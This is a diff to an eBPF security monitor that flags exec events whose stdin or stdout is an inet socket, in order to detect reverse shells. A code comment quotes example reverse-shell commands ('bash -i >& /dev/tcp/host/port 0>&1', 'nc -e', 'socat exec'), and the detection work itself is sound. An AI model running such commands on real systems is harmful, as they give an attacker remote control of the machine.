@@ -69,6 +69,31 @@ static __always_inline __u16 exe_flags(struct file *file, const char *exe, __u32
 	return flags;
 }
 
+static __always_inline bool inet_sock(struct sock *sk)
+{
+	__u16 family;
+
+	if (!sk)
+		return false;
+	family = BPF_CORE_READ(sk, __sk_common.skc_family);
+	return family == AF_INET || family == AF_INET6;
+}
+
+/*
+ * Whether the new image reads or writes a network connection as its stdin or stdout, as a
+ * reverse shell does (bash -i >& /dev/tcp/host/port 0>&1, nc -e, socat exec): fd 0 or 1 is an
+ * inet or inet6 socket. Unix sockets (a service's stdout to journald) and pipes are not. This
+ * runs in the execing task after the close-on-exec fds are gone: current's fd table is the new
+ * image's. Cost on every exec: for fd 0 and fd 1, a slot read and the inode's mode; a socket
+ * adds three reads.
+ */
+static __always_inline __u16 stdio_flags(void)
+{
+	if (inet_sock(fd_sock(0)) || inet_sock(fd_sock(1)))
+		return VIGIL_EXE_STDIO_SOCKET;
+	return 0;
+}
+
 SEC("tp_btf/sched_process_exec")
 int BPF_PROG(handle_exec, struct task_struct *task, pid_t old_pid, struct linux_binprm *bprm)
 {
@@ -93,7 +118,7 @@ int BPF_PROG(handle_exec, struct task_struct *task, pid_t old_pid, struct linux_
 	ev->exe_len = off;
 	if (truncated)
 		flags |= VIGIL_EXEC_EXE_TRUNCATED;
-	ev->exe_flags = exe_flags(BPF_CORE_READ(bprm, file), s->data, off);
+	ev->exe_flags = exe_flags(BPF_CORE_READ(bprm, file), s->data, off) | stdio_flags();
 	if (ev->exe_flags & VIGIL_EXE_MEMFD) {
 		/* A memfd is in no directory (the walk gives "/"): its name is "memfd:<name>". */
 		long n = bpf_probe_read_kernel_str(
